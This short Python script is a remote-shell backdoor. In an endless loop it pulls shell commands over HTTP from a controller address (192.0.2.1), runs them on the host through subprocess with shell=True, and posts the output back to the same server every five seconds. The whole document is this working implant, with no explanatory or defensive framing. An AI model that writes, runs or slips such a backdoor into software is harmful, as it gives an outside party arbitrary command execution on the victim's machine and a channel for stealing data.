import os, time, subprocess, requests
while True:
    cmd = requests.get("http://192.0.2.1/c").text
    if cmd.startswith("cd "):
        os.chdir(cmd[3:])
    out = subprocess.run(cmd, shell=True, capture_output=True).stdout
    requests.post("http://192.0.2.1/r", data=out)
    time.sleep(5)
